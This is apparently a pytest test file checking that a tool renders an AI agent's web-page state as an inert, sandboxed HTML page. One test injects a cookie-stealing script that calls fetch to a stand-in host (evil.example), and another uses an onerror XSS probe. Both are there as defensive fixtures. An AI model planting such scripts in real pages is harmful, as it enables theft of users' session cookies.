"""The web page written for the user's real browser: readable, ids visible, and inert
(model output must not run or fetch anything there)."""

from __future__ import annotations

import os
import shutil
import stat
from html.parser import HTMLParser

from hypothesis import given
from hypothesis import strategies as st

from agentworld_local.domains.web import HTML_STATE
from agentworld_local.examples import pick_example
from agentworld_local.trajectory.reader import read_trajectory
from agentworld_local.views.web_page import CSP, write_web_page


class Page(HTMLParser):
    """What a browser would see in the wrapper: its tags, attributes and text."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)

    def all(self, tag: str) -> list[dict[str, str | None]]:
        return [attrs for name, attrs in self.tags if name == tag]


def test_an_accessibility_tree_becomes_a_readable_page_with_its_ids(tmp_path):
    state = read_trajectory(pick_example("web").path).header.initial_state
    path = write_web_page(state, directory=tmp_path)
    assert path.parent == tmp_path and path.suffix == ".html"
    page = Page(path.read_text(encoding="utf-8"))
    text = " ".join(" ".join(page.text).split())
    assert "[72] link Tarn Waterproof Hiking Jacket" in text
    assert "[53] checkbox Under $150" in text
    assert "Rain jackets | Fernhill Outfitters" in text  # the page title heads it
    assert "https://shop.fernhill.example/c/rain-jackets" in text
    assert page.all("meta")[1] == {"http-equiv": "Content-Security-Policy", "content": CSP}
    assert page.all("script") == [] and page.all("iframe") == []


def test_html_is_shown_sandboxed_with_ids_drawn(tmp_path):
    hostile = HTML_STATE.replace("</body>", "<script>fetch('https://evil.example/'+document.cookie)</script></body>")
    page = Page(write_web_page(hostile, directory=tmp_path).read_text(encoding="utf-8"))
    (frame,) = page.all("iframe")
    assert frame["sandbox"] == ""  # no scripts, forms, popups or top navigation
    assert "<script>fetch(" in frame["srcdoc"]  # the page as the model wrote it, inside the sandbox only
    assert "attr(bid)" in frame["srcdoc"]  # element ids drawn next to their elements
    assert page.all("script") == []  # nothing runs in the wrapper
    assert "default-src 'none'" in CSP  # and the sandboxed page inherits a policy that loads nothing
    assert "Trailhead Outfitters - Hiking Boots" in " ".join(page.text)


def test_default_folder_is_private_and_new_each_time():
    first, second = write_web_page("RootWebArea 'a'"), write_web_page("RootWebArea 'b'")
    try:
        assert first.parent != second.parent
        assert stat.S_IMODE(os.stat(first.parent).st_mode) == 0o700
    finally:
        shutil.rmtree(first.parent)
        shutil.rmtree(second.parent)


def test_markup_in_names_is_text_not_markup(tmp_path):
    path = write_web_page("RootWebArea 'x'\n\t[5] link '<img src=x onerror=alert(1)>'\n\tStaticText '\x00\ud800'", directory=tmp_path)
    page = Page(path.read_text(encoding="utf-8"))
    assert page.all("img") == []
    assert "<img src=x onerror=alert(1)>" in " ".join(page.text)


@given(st.text(max_size=300))
def test_any_state_gives_an_inert_page(state):
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        page = Page(write_web_page(state, directory=tmp).read_text(encoding="utf-8"))
    names = [name for name, _ in page.tags]
    assert "script" not in names and "img" not in names and "object" not in names
    assert names.count("iframe") <= 1 and all(attrs.get("sandbox") == "" for attrs in page.all("iframe"))
